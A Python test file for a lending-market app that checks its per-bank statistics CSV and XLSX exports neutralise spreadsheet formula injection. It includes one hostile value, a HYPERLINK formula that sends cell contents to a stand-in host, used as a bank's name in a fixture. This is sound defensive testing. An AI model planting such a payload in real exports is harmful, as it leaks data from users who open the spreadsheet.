"""The statistics exports (CSV and XLSX) cannot carry a formula into a spreadsheet: a bank named like a formula is
written as text with a leading quote, and amounts stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from market.accounts.models import OrgKind, Role
from market.ip.models import IpAsset, IpKind, LegalStatus, PledgeState
from tests.conftest import NOW

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'


@pytest.fixture
def hostile_bank(session, factory):
    bank = factory.user(Role.BANK, org=factory.org(OrgKind.BANK, name=HOSTILE))
    enterprise = factory.org(OrgKind.ENTERPRISE)
    asset = IpAsset(kind=IpKind.INVENTION, application_number="209912345678X", title="导出安全测试专利",
                    owner_org_id=enterprise.id, legal_status=LegalStatus.GRANTED, pledge_state=PledgeState.FREE,
                    filing_date=date(2020, 5, 1), created_at=NOW, updated_at=NOW)
    session.add(asset)
    session.flush()
    from tests.factories import confirmed_loan

    confirmed_loan(session, bank, enterprise, principal=Decimal("1234567.89"), annual_rate=Decimal("0.0500"),
                   term_months=12, asset_ids=[asset.id], signed_on=date(2016, 5, 1), now=NOW,
                   registration_number="X2016500000777")
    session.commit()
    return bank


def test_stats_csv_neutralises_formulas(client, hostile_bank):
    text = client.get("/stats/by-bank.csv").get_data().decode("utf-8-sig")
    rows = [row for row in csv.reader(io.StringIO(text)) if "HYPERLINK" in row[0]]
    assert rows == [["'" + HOSTILE, "1", "1234567.89"]]


def test_stats_xlsx_holds_no_formula(client, hostile_bank):
    response = client.get("/stats/by-bank.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    row = next(r for r in sheet.iter_rows(values_only=True) if "HYPERLINK" in str(r[0]))
    assert row == ("'" + HOSTILE, 1, Decimal("1234567.89")) or row == ("'" + HOSTILE, 1, 1234567.89)
